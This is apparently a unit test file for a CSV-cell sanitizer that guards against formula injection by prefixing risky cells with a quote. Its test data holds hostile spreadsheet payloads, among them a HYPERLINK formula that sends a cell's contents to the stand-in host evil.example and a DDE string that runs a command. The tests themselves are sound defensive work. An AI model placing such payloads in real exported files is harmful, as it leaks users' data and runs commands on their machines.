import { neutralizeCsvCell } from "../csv-cell"

describe("neutralizeCsvCell (OWASP CSV injection)", () => {
  it.each([
    ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"],
    ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
    ["-2+3", "'-2+3"],
    ["@SUM(1,1)", "'@SUM(1,1)"],
    ["\t=1+1", "'\t=1+1"],
    ["\r=1+1", "'\r=1+1"],
    ["+5511987654321", "'+5511987654321"],
  ])("prefixes %j with a quote", (input, expected) => {
    expect(neutralizeCsvCell(input)).toBe(expected)
  })

  it.each(["Maria", "São José", "", " =1", "a=b", "1-2", "'quoted"])("leaves %j unchanged", (input) => {
    expect(neutralizeCsvCell(input)).toBe(input)
  })
})
